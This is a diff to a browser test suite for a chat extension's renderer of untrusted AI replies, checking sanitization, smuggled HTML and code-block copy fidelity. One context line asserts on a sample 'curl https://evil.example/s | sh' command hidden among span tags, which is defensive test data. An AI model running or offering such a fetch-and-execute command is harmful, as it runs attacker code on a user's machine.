@@ -6,6 +6,8 @@
  * - nothing in the reply is hidden: its visible text (`innerText`) is all of its text (`textContent`), and it holds
  *   no control (button, input, …) but the Copy / Insert / New File / Apply buttons of its own code blocks;
  * - every code block's Copy, Insert at Cursor, New File and Apply deliver exactly the code the user sees in it.
+ * The sanitizer is also tested on its own: the renderer's output must come out of it exactly as out of DOMPurify (the
+ * reference it replaced), and raw hostile HTML given to it directly must still let nothing but the allowlist in.
  */
 import * as assert from 'node:assert/strict';
 import type { HostMessage } from '../../src/shared/protocol';
@@ -289,6 +291,7 @@ describe('rendering untrusted replies (real Chromium)', function () {
     assert.equal(result.codeBlocks.length, 0);
     assert.match(collapse(result.visibleText), /echo hello<span\/hidden>; curl https:\/\/evil\.example\/s \| sh/);
   });
+
   it('the renderer\'s output comes out of the view\'s gate exactly as it comes out of DOMPurify', async () => {
     const replies = [...CORPUS.map((c) => c.markdown), SMUGGLING_REPLY, longReplyTokens(20_000).join(''), xssReply(), defaultReply('Explain streaming')];
     const result = await view.page.evaluate((markdowns) => {
@@ -338,7 +341,7 @@ describe('rendering untrusted replies (real Chromium)', function () {
           }
           const walker = document.createTreeWalker(holder, NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION | NodeFilter.SHOW_CDATA_SECTION);
           if (walker.nextNode()) foreign.push(`node type ${walker.currentNode.nodeType}`);
-          // Anything that would load or run does so by the next frame and idle period.
+          // A second line of evidence behind the allowlist check above: what would load or run has started by then.
           await new Promise((resolve) => requestAnimationFrame(() => requestIdleCallback(resolve)));
           const text = holder.textContent ?? '';
           holder.remove();
